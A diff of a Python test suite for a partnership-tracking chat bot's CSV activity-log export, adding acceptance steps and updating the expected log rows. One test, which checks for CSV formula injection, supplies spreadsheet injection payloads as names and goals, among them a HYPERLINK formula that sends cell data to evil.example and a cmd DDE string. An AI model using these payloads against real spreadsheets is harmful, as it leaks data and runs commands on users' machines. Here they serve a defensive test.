@@ -112,10 +112,13 @@ async def acme_alliance(server: ExportServer, chat: Chat) -> None:
     bound to channel C1."""
     server.at(0)
     await ok(chat, "ana", "partnership new Acme Alliance with <@dana|dana>", channel="C1")
+    await ok(chat, "dana", "partnership P-1 accept")
     server.at(1)
     await ok(chat, "ana", "partnership P-1 add <@rita|rita>")
+    await ok(chat, "rita", "partnership P-1 accept")
     server.at(2)
     await ok(chat, "dana", "partnership P-1 add <@sam|sam>")
+    await ok(chat, "sam", "partnership P-1 accept")
 
 
 # --- the download -----------------------------------------------------------------------------
@@ -124,6 +127,7 @@ async def test_the_export_lists_who_did_what_to_the_partnership_and_its_records_
     await acme_alliance(server, chat)
     server.at(3)
     await ok(chat, "carl", "partnership new Beta Pact with <@dora|dora>", channel="C2")  # P-2
+    await ok(chat, "dora", "partnership P-2 accept")
     server.at(4)
     await ok(chat, "rita", "handoff <@sam|sam> Globex: needs a security review by fri")  # H-1, side A to B
     server.at(5)
@@ -162,9 +166,12 @@ async def test_the_export_lists_who_did_what_to_the_partnership_and_its_records_
     assert download.headers["Cache-Control"] == "no-store"
     assert download.body.startswith("\ufefftime,person,platform,action,record,details\r\n".encode())
     assert who_did_what(download) == [
-        ("10:00", "ana", "partnership.created", "P-1"),
-        ("10:01", "ana", "partnership.member_added", "P-1"),
-        ("10:02", "dana", "partnership.member_added", "P-1"),
+        ("10:00", "ana", "partnership.proposed", "P-1"),
+        ("10:00", "dana", "partnership.accepted", "P-1"),
+        ("10:01", "ana", "partnership.member_invited", "P-1"),
+        ("10:01", "rita", "partnership.member_added", "P-1"),
+        ("10:02", "dana", "partnership.member_invited", "P-1"),
+        ("10:02", "sam", "partnership.member_added", "P-1"),
         ("10:04", "rita", "handoff.created", "H-1"),
         ("10:05", "sam", "handoff.accepted", "H-1"),
         ("10:06", "rita", "handoff.stage", "H-1"),
@@ -176,11 +183,16 @@ async def test_the_export_lists_who_did_what_to_the_partnership_and_its_records_
         ("10:17", "rita", "commitment.done", "C-1"),
         ("10:20", "ana", "export.created", "P-1"),
     ]
-    by_time = {r["time"]: r for r in download.rows}
+    by_time = {r["time"]: r for r in reversed(download.rows)}  # the first row of each minute
     assert {r["platform"] for r in download.rows} == {"console"}
     assert by_time["2026-11-23T10:00:00Z"]["details"] == \
         "name: Acme Alliance; manager A: ana; manager B: dana; channel: C1"
-    assert by_time["2026-11-23T10:01:00Z"]["details"] == "person: rita; side: a; manager: ana"
+    assert [r["details"] for r in download.rows if r["time"] == "2026-11-23T10:01:00Z"] == \
+        ["person: rita; side: a", "person: rita; side: a"]  # invited, then joined
+    rita, ana = await person_named(server.bot.db, "rita"), await person_named(server.bot.db, "ana")
+    (manager_set,) = await rows(server.bot.db, ActivityLog, ActivityLog.action == "person.manager_set",
+                                ActivityLog.record == f"person:{rita.id}")
+    assert (manager_set.after or {}).get("manager_id") == ana.id  # joining gave rita her manager
     assert by_time["2026-11-23T10:05:00Z"]["details"] == "accepted: no → yes"
     assert by_time["2026-11-23T10:06:00Z"]["details"] == "stage: identified → positioned; note: sent the deck"
     assert by_time["2026-11-23T10:09:00Z"]["details"] == \
@@ -193,7 +205,8 @@ async def test_the_export_lists_who_did_what_to_the_partnership_and_its_records_
     server.at(21)
     other = await server.get(link_in(await chat.say("carl", "export P-2")))
     assert [(who, action, record) for _, who, action, record in who_did_what(other)] == [
-        ("carl", "partnership.created", "P-2"),
+        ("carl", "partnership.proposed", "P-2"),
+        ("dora", "partnership.accepted", "P-2"),
         ("carl", "ask.created", "Q-2"),
         ("dora", "lead.created", "L-2"),
         ("carl", "export.created", "P-2"),
@@ -204,6 +217,7 @@ async def test_peer_syncs_their_pledges_meetings_and_action_items_are_in_the_exp
     chat = server.chat()
     server.at(0)
     await ok(chat, "ana", "partnership new Acme Alliance with <@dana|dana>", channel="C1")
+    await ok(chat, "dana", "partnership P-1 accept")
     server.at(1)
     await ok(chat, "ana", "sync now P-1")  # opens S-1
     server.at(2)
@@ -218,7 +232,8 @@ async def test_peer_syncs_their_pledges_meetings_and_action_items_are_in_the_exp
 
     download = await server.get(link_in(await chat.say("dana", "export P-1")))
     assert who_did_what(download) == [
-        ("10:00", "ana", "partnership.created", "P-1"),
+        ("10:00", "ana", "partnership.proposed", "P-1"),
+        ("10:00", "dana", "partnership.accepted", "P-1"),
         ("10:01", "Partnerbot", "peer_sync.opened", "S-1"),
         ("10:02", "ana", "commitment.created", "C-1"),
         ("10:02", "ana", "commitment.created", "C-2"),
@@ -229,9 +244,10 @@ async def test_peer_syncs_their_pledges_meetings_and_action_items_are_in_the_exp
         ("10:32", "dana", "export.created", "P-1"),
     ]
     lines = download.rows
-    assert [r["platform"] for r in lines] == ["console", "scheduler", *["console"] * 4, "scheduler", *["console"] * 2]
-    assert lines[2]["details"] == "what: call Acme; due_at: 2026-11-30T09:00:00+00:00; pledge_of: S-1"
-    assert lines[4]["details"] == "results: two wins; commit: call Acme / send deck"  # one line per answer
+    assert [r["platform"] for r in lines] == ["console", "console", "scheduler", *["console"] * 4, "scheduler",
+                                              *["console"] * 2]
+    assert lines[3]["details"] == "what: call Acme; due_at: 2026-11-30T09:00:00+00:00; pledge_of: S-1"
+    assert lines[5]["details"] == "results: two wins; commit: call Acme / send deck"  # one line per answer
 
 
 async def test_no_cell_starts_with_a_formula_character_whatever_people_type(server):
@@ -240,13 +256,16 @@ async def test_no_cell_starts_with_a_formula_character_whatever_people_type(serv
     names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
     for number, name in enumerate(names):
         await ok(chat, "ana", f"partnership P-1 add <@u{number}|{name}>")
-        await ok(chat, f"u{number}", 'partnership P-1 goal =HYPERLINK("http://evil.example/?"&A1,"open")')
+        await ok(chat, f"u{number}", "partnership P-1 accept")  # logged as done by them
+        await ok(chat, "ana", 'partnership P-1 goal =HYPERLINK("http://evil.example/?"&A1,"open")')  # managers only
 
     download = await server.get(link_in(await chat.say("ana", "export P-1")))
     cells = [cell for row in download.rows for cell in row.values()]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    joined = [r for r in download.rows if r["action"] == "partnership.member_added"]
+    assert [r["person"] for r in joined] == ["rita", "sam"] + ["'" + name for name in names]  # shown as text, not run
     goal_rows = [r for r in download.rows if r["action"] == "partnership.goal_added"]
-    assert [r["person"] for r in goal_rows] == ["'" + name for name in names]  # shown as text, not run
+    assert len(goal_rows) == len(names)
     assert {r["details"] for r in goal_rows} == {'goal: =HYPERLINK("http://evil.example/?"&A1,"open")'}
 
 
@@ -299,18 +318,20 @@ async def test_a_changed_malformed_or_unknown_token_gets_the_same_404(server):
 async def test_each_workspace_export_holds_only_its_own_p1(server):
     acme, globex = server.chat("acme"), server.chat("globex")
     await ok(acme, "ana", "partnership new Acme Alliance with <@dana|dana>")
+    await ok(acme, "dana", "partnership P-1 accept")
     await ok(acme, "ana", "partnership P-1 goal ten joint wins")
     await ok(globex, "bea", "partnership new Globex Group with <@gus|gus>")
+    await ok(globex, "gus", "partnership P-1 accept")
     await ok(globex, "bea", "partnership P-1 goal five renewals")
 
     in_acme = await server.get(link_in(await acme.say("dana", "export P-1")))
     in_globex = await server.get(link_in(await globex.say("gus", "export P-1")))
     assert [(who, action) for _, who, action, _ in who_did_what(in_acme)] == [
-        ("ana", "partnership.created"), ("ana", "partnership.goal_added"), ("ana", "partnership.charter_changed"),
-        ("dana", "export.created")]
+        ("ana", "partnership.proposed"), ("dana", "partnership.accepted"), ("ana", "partnership.goal_added"),
+        ("ana", "partnership.charter_changed"), ("dana", "export.created")]
     assert [(who, action) for _, who, action, _ in who_did_what(in_globex)] == [
-        ("bea", "partnership.created"), ("bea", "partnership.goal_added"), ("bea", "partnership.charter_changed"),
-        ("gus", "export.created")]
+        ("bea", "partnership.proposed"), ("gus", "partnership.accepted"), ("bea", "partnership.goal_added"),
+        ("bea", "partnership.charter_changed"), ("gus", "export.created")]
     assert "ten joint wins" in in_acme.body.decode() and "ten joint wins" not in in_globex.body.decode()
     assert "five renewals" in in_globex.body.decode() and "five renewals" not in in_acme.body.decode()
 
@@ -330,7 +351,8 @@ async def test_a_long_log_streamed_in_small_pages_comes_whole_and_in_order(serve
     assert paged == whole.body
     goals = [r["details"] for r in whole.rows if r["action"] == "partnership.goal_added"]
     assert goals == [f"goal: goal number {n}" for n in range(1, 26)]
-    assert len(whole.rows) == 3 + 25 * 2 + 1  # each goal also changes the charter
+    # proposed, accepted, two reps invited and joined; each goal also changes the charter; the export
+    assert len(whole.rows) == 6 + 25 * 2 + 1
 
 
 async def test_a_win_row_names_everyone_credited_with_their_share(server):
@@ -373,9 +395,13 @@ async def test_only_the_tokens_hash_is_kept_with_an_hour_to_live_and_the_export_
 
 async def test_the_manager_of_a_member_may_export_but_outsiders_may_not(chat, db):
     await chat.say("carl", "partnership new Beta Pact with <@dora|dora>")  # P-1, carl manages it
+    await chat.say("dora", "partnership P-1 accept")
     await chat.say("ana", "partnership new Acme Alliance with <@dana|dana>")  # P-2
+    await chat.say("dana", "partnership P-2 accept")
     await chat.say("ana", "partnership P-2 add <@rob|rob>")
-    await chat.say("carl", "partnership P-1 add <@rob|rob>")  # rob's manager is now carl
+    await chat.say("carl", "partnership P-1 add <@rob|rob>")
+    await chat.say("rob", "partnership P-1 accept")  # rob's manager is now carl
+    await chat.say("rob", "partnership P-2 accept")  # rob keeps carl
     assert (await chat.say("carl", "export P-2")).ok  # not a member of P-2, but rob's manager
     await assert_refused_without_change(chat, db, "dora", "export P-2",
                                         "Only members of P-2 can export its activity log.")
@@ -385,9 +411,12 @@ async def test_the_manager_of_a_member_may_export_but_outsiders_may_not(chat, db
 
 async def test_an_unknown_or_other_workspaces_partnership_and_bad_input_are_refused(chat, db, settings, clock):
     await chat.say("ana", "partnership new Acme Alliance with <@dana|dana>")
+    await chat.say("dana", "partnership P-1 accept")
     elsewhere = Chat(Dispatcher(db, settings, default_registry(), clock), workspace="globex")
     await elsewhere.say("bea", "partnership new Globex Group with <@gus|gus>")
+    await elsewhere.say("gus", "partnership P-1 accept")
     await elsewhere.say("bea", "partnership new Second Group with <@gus|gus>")
+    await elsewhere.say("gus", "partnership P-2 accept")
     await assert_refused_without_change(chat, db, "ana", "export P-2", "There is no partnership P-2 here.")
     await assert_refused_without_change(chat, db, "ana", "export P-9", "There is no partnership P-9 here.")
     await assert_refused_without_change(chat, db, "ana", "export", "Say which partnership: `export P-1`.")
@@ -398,5 +427,6 @@ async def test_an_unknown_or_other_workspaces_partnership_and_bad_input_are_refu
 async def test_in_a_teams_channel_the_link_is_refused_and_given_in_a_direct_chat(db, settings, clock):
     teams = Chat(Dispatcher(db, settings, default_registry(), clock), platform="teams", workspace="tenant-1")
     await teams.say("ana", "partnership new Acme Alliance with <@dana|dana>", channel="19:c@thread.tacv2")
+    await teams.say("dana", "partnership P-1 accept")
     await assert_refused_without_change(teams, db, "ana", "export P-1", "in a direct chat with me")
     assert (await teams.say("ana", "export P-1", channel="a:personal", is_direct=True)).ok
